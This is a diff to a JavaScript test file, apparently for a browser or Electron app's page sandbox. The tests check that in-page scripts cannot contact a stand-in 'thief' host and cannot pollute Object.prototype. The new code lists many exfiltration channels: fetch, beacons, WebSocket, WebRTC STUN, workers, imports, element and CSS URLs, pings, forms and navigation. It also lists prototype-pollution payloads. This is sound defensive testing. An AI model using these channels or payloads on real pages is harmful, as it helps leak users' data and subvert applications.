@@ -5,6 +5,7 @@
 
 import assert from "node:assert/strict";
 import { randomBytes } from "node:crypto";
+import { createSocket } from "node:dgram";
 import { existsSync, readdirSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { after, before, describe, it } from "node:test";
@@ -116,27 +117,115 @@ describe("a script in the page", () => {
   it("reaches no other host, by whatever way", async () => {
     const before = thief.requests.length;
     const here = await window.browser.execute(() => location.href);
-    await window.browser.execute(async (url) => {
-      await fetch(url).catch(() => undefined);
-      navigator.sendBeacon?.(url, "x");
-      new Image().src = `${url}/image`;
-      const form = document.createElement("form");
-      Object.assign(form, { method: "post", action: url });
-      document.body.append(form);
-      form.submit();
-      form.remove();
-      window.open(url);
-      location.href = `${url}/navigated`;
-    }, thief.url);
+    const udp = createSocket("udp4");
+    const heard = [];
+    udp.on("message", (message) => heard.push(message));
+    await new Promise((resolve) => udp.bind(0, "127.0.0.1", resolve));
+    await window.browser.execute(
+      async (url, port) => {
+        const soon = () => new Promise((resolve) => setTimeout(resolve, 1000));
+        const attempt = (way) =>
+          Promise.race([
+            soon(),
+            Promise.resolve()
+              .then(way)
+              .catch(() => undefined),
+          ]);
+        const ways = [
+          () => fetch(url),
+          () =>
+            fetch(`${url}/no-cors`, {
+              mode: "no-cors",
+              method: "POST",
+              body: "x",
+              keepalive: true,
+            }),
+          () => navigator.sendBeacon(url, "x"),
+          () => new WebSocket(url.replace("http", "ws")),
+          () => new EventSource(`${url}/events`),
+          () => new Worker(`${url}/worker.js`),
+          () => navigator.serviceWorker.register(`${url}/service.js`),
+          () => import(/* @vite-ignore */ `${url}/module.js`),
+          () => new FontFace("x", `url(${url}/font)`).load(),
+          () => window.open(url),
+          () => window.open(url, "_self"),
+          () => window.open(url, "x", "noopener"),
+        ];
+        await Promise.all(ways.map(attempt));
+        await attempt(() => {
+          const request = new XMLHttpRequest();
+          request.open("GET", `${url}/xhr`, false);
+          request.send();
+        });
+        await attempt(async () => {
+          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+          peer.createDataChannel("x");
+          await peer.setLocalDescription(await peer.createOffer());
+        });
+        const put = (name, attributes) => {
+          const element = document.createElement(name);
+          for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
+          document.body.append(element);
+          return element;
+        };
+        put("img", { src: `${url}/image`, srcset: `${url}/set 2x` });
+        put("script", { src: `${url}/script.js` });
+        put("iframe", { src: `${url}/frame` });
+        put("iframe", {
+          srcdoc: `<script>fetch("${url}/srcdoc")</` + `script><img src="${url}/srcdoc-image">`,
+        });
+        put("object", { data: `${url}/object` });
+        put("embed", { src: `${url}/embed` });
+        put("video", { src: `${url}/video`, poster: `${url}/poster`, preload: "auto" });
+        put("audio", { src: `${url}/audio`, preload: "auto" });
+        for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "icon", "manifest"]) {
+          put("link", { rel, href: `${url}/${rel}`, as: "script" });
+        }
+        put("style", {}).textContent = `@import url(${url}/import); body { cursor: url(${url}/cursor), auto }`;
+        put("div", { style: `background: url(${url}/background)` });
+        put("meta", { "http-equiv": "refresh", content: `0; url=${url}/refreshed` });
+        put("base", { href: url });
+        put("a", { href: `${url}/link`, ping: `${url}/ping` }).click();
+        put("a", { href: `${url}/blank`, target: "_blank" }).click();
+        put("a", { href: `${url}/download`, download: "x" }).click();
+        put("form", { method: "post", action: url }).submit();
+        put("form", { action: `${url}/blank-form`, target: "_blank" }).submit();
+        location.href = `${url}/navigated`;
+      },
+      thief.url,
+      udp.address().port,
+    );
     await window.browser.pause(1500);
     assert.equal(await window.browser.execute(() => location.href), here, "the window stayed where it was");
-    assert.equal(thief.requests.length, before, "nothing reached the other host");
+    const reached = thief.requests.slice(before).map((request) => request.path);
+    udp.close();
+    assert.deepEqual(reached, [], "nothing reached the other host");
+    assert.deepEqual(heard, [], "nor a port of its own");
+    await window.browser.execute(() => location.reload());
+    await window.browser.pause(500);
     assert.equal((await window.browser.getWindowHandles()).length, 1, "and no other window opened");
   });
 
   it("changes nothing that every object has", async () => {
-    const frozen = await window.browser.execute(() => Object.isFrozen(Object.prototype));
+    const [frozen, polluted] = await window.browser.execute(() => {
+      for (const pollute of [
+        () => (Object.prototype.polluted = 1),
+        () => (JSON.parse('{"__proto__":{"polluted":1}}').__proto__.x = 1),
+        () => Object.defineProperty(Object.prototype, "polluted", { value: 1 }),
+        () => Object.setPrototypeOf(Object.prototype, { polluted: 1 }),
+        () => Object.assign({}.constructor.prototype, { polluted: 1 }),
+        () => delete Object.prototype.hasOwnProperty,
+      ]) {
+        try {
+          pollute();
+        } catch {
+          // A refusal.
+        }
+      }
+      return [Object.isFrozen(Object.prototype), "polluted" in {} || !("hasOwnProperty" in {})];
+    });
     assert.equal(frozen, true, "what every object has is frozen");
+    assert.equal(polluted, false, "and stays as it is, whatever a script tries");
   });
 });
 
